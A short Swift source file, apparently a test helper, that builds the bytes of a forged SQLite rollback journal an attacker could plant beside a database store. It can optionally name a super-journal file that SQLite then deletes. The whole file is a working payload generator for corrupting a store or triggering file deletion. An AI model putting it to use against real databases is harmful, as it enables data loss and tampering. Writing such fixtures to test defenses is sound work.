/// A rollback journal that an attacker could put beside a store.
struct PlantedJournal {
  /// The number of pages of the store, according to the journal.
  var pages: UInt32
  /// The file that it names as its super-journal, which SQLite deletes.
  var superJournal: String?

  var bytes: [UInt8] {
    var bytes = PlantedJournal.magic
    for number: UInt32 in [0, 0, pages, 512, 4096] { bytes += PlantedJournal.bytes(number) }
    bytes += Array(repeating: 0, count: 512 - bytes.count)
    guard let superJournal else { return bytes }
    let name = Array(superJournal.utf8)
    bytes += PlantedJournal.bytes(0x4000_0000 / 4096 + 1) + name
    bytes += PlantedJournal.bytes(UInt32(name.count))
    bytes += PlantedJournal.bytes(name.reduce(0) { $0 + UInt32($1) })
    return bytes + PlantedJournal.magic
  }

  private static let magic: [UInt8] = [0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7]

  private static func bytes(_ number: UInt32) -> [UInt8] {
    [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: number >> $0) }
  }
}
